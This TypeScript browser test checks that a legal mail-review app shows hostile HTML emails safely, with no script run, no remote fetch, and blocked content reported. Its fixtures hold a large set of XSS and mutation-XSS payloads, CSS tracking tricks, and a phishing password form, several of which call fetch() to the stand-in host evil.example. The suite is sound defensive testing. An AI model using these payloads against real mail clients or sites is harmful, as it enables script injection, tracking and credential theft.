import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { openDatabase } from '#platform';
import { processMatter } from '#processing';
import { indexMessages } from '#search';
import { openDiskVault } from '#vault';
import { keepMail } from '../../src/processing/testing.ts';
import { builtWebApp } from '../server/rig.ts';
import { uploadRig } from '../server/work/upload-rig.ts';
import { violationsOf } from './accessibility.ts';
import { openChromium, picture } from './chromium.ts';
import { signedIn } from './signed-in.ts';

const evil = 'https://evil.example';
const run = `top.document.title='it ran';parent.__ran=1;fetch('${evil}/ran')`;

interface Hostile {
  readonly subject: string;
  /** What of it must still be read. */
  readonly says: string;
  /** Remote things that are told as blocked; null where there is no HTML. */
  readonly blocked: number;
  readonly html: string;
  readonly charset?: string;
}

const table = `<table border="1">${Array.from({ length: 4000 }, (_, row) => `<tr>${'<td>cell</td>'.repeat(8)}<td>row ${String(row)}</td></tr>`).join('')}</table>`;

const mails: readonly Hostile[] = [
  {
    subject: 'Scripts',
    says: 'The rent is due',
    blocked: 2,
    html: `<script>${run}</script><script src="${evil}/a.js"></script><p onclick="${run}" onmouseover="${run}">The rent is due</p>
<img src=x onerror="${run}"><svg onload="${run}"><script>${run}</script><animate onbegin="${run}"/></svg><a href="javascript:${run}">here</a>
<iframe srcdoc="<script>${run}</script>"></iframe><iframe src="${evil}/frame"></iframe><object data="data:text/html,<script>${run}</script>"></object>
<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></table></mtext></math><noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
  },
  {
    subject: 'Remote pictures',
    says: 'Look at the pictures',
    blocked: 6,
    html: `<body background="${evil}/0.png"><p>Look at the pictures</p><img src="${evil}/1.png"><img src="//evil.example/2.png"><img srcset="${evil}/3.png 2x, ${evil}/4.png 3x">
<picture><source srcset="${evil}/5.png"><img alt="six" src="${evil}/6.png"></picture><video poster="${evil}/7.png"><source src="${evil}/8.mp4"></video>
<link rel="stylesheet" href="${evil}/9.css"><link rel="preconnect" href="${evil}"><meta http-equiv="refresh" content="0;url=${evil}/10"></body>`,
  },
  {
    subject: 'Tricks of style',
    says: 'Only this may be seen',
    blocked: 3,
    html: `<style>@import url(${evil}/a.css); @font-face{font-family:x;src:url(${evil}/b.woff)} p{background:url('${evil}/c.png')} body::before{content:url(${evil}/d.png)}</style>
<p style="background-image:url(${evil}/e.png);color:red">Only this may be seen</p><p style="background:\\75rl('${evil}/f.png')">escaped</p>
<div style="position:fixed;inset:0;z-index:99999;background:#fff">YOUR SESSION HAS ENDED</div><p style="width:expression(${run});behavior:url(${evil}/g.htc);-moz-binding:url(${evil}/h.xml)">old</p>`,
  },
  {
    subject: 'Forms',
    says: 'Type your password',
    blocked: 0,
    html: `<form action="${evil}/take" method="post"><label>Type your password <input name="password" type="password" autofocus onfocus="${run}"></label><button formaction="${evil}/b">Go on</button></form><base href="${evil}/"><a href="${evil}/link" target="_top">Our page</a>`,
  },
  { subject: 'A huge table', says: 'row 3999', blocked: 0, html: table },
  {
    subject: 'A broken charset',
    says: 'caf',
    blocked: 0,
    charset: 'x-no-such-charset',
    html: '<p>caf\u00e9 \u00ff\u00fe\u0000 <b>unclosed <i><table><tr><td>cell<p>',
  },
  {
    subject: `<img src=x onerror="${run}">`,
    says: 'names may be hostile too',
    blocked: 0,
    html: '<p>names may be hostile too</p>',
  },
];

function bytesOf({ subject, html, charset = 'utf-8' }: Hostile): Buffer {
  const head = [
    `From: "<script>${run}</script>" <eve@evil.example>`,
    'To: ana@lakeside.example',
    `Subject: ${subject}`,
    `Message-ID: <${String(html.length)}.${charset}@evil.example>`,
    'MIME-Version: 1.0',
    `Content-Type: text/html; charset=${charset}`,
    'Content-Transfer-Encoding: 8bit',
  ];
  return Buffer.from(`${head.join('\r\n')}\r\n\r\n${html}\r\n`, 'latin1');
}

test('hostile mail is read without harm: nothing runs, nothing is fetched from elsewhere, and what was blocked is told', async (context) => {
  await using browser = await openChromium(context);
  await using rig = await uploadRig({ webFolder: await builtWebApp() });
  await using database = await openDatabase({ url: rig.databaseUrl, size: 3 });
  const vault = await openDiskVault({ folder: join(rig.dataFolder, 'vault') });
  const receivedAt = new Date('2026-01-10T08:00:00Z');
  const messages = mails.map(bytesOf);
  const { matter } = await keepMail(database, vault, { messages, matterName: 'Smith v. Acme', receivedAt });
  await processMatter({ database, vault, matter });
  await indexMessages({ database });
  const { page, complaints } = await signedIn(browser, rig.url, { path: `/matters/${matter}/review` });
  const elsewhere = requestsElsewhere(page, rig.url);
  for (const mail of mails) {
    await page.getByRole('option').filter({ hasText: mail.subject }).click();
    const article = page.getByRole('article', { name: mail.subject });
    await article.waitFor();
    const body = article.frameLocator('iframe');
    await body.getByText(mail.says).first().waitFor();
    const told = article.getByText('Remote content blocked', { exact: false });
    if (mail.blocked > 0)
      expect(Number(/\d+/.exec(await told.innerText())![0]), mail.subject).toBeGreaterThanOrEqual(mail.blocked);
    expect(await article.locator('iframe').getAttribute('sandbox')).toBe('');
    expect(
      await body
        .locator('script, form, input, button, iframe, object, svg, link, meta[http-equiv=refresh], base')
        .count(),
    ).toBe(0);
    await picture(
      page,
      `hostile-${mail.subject
        .toLowerCase()
        .replaceAll(/[^a-z]+/g, '-')
        .slice(0, 20)}`,
    );
    await article.getByText('Plain text').click();
    await article.getByText(mail.says, { exact: false }).first().waitFor();
    for (const tab of ['Headers', 'Source']) await article.getByRole('tab', { name: tab }).click();
  }
  expect(await violationsOf(page)).toEqual([]);
  // A click in the body leads nowhere either.
  await page.getByRole('option').filter({ hasText: 'Forms' }).click();
  await page.getByRole('article', { name: 'Forms' }).frameLocator('iframe').getByText('Our page').click();
  await page.waitForTimeout(500);
  expect(new URL(page.url()).origin).toBe(rig.url);
  expect(await page.evaluate('window.__ran')).toBeUndefined();
  expect(await page.title()).not.toContain('it ran');
  expect(page.context().pages()).toHaveLength(1);
  expect(elsewhere).toEqual([]);
  expect(complaints).toEqual([]);
}, 120_000);

/** What the browser asked of anybody but the server, frames included. */
function requestsElsewhere(page: Page, url: string): string[] {
  const asked: string[] = [];
  page.context().on('request', (request) => {
    const to = new URL(request.url());
    if (to.origin !== url && to.protocol !== 'data:' && to.protocol !== 'blob:') asked.push(request.url());
  });
  page.on('dialog', (dialog) => {
    asked.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return asked;
}
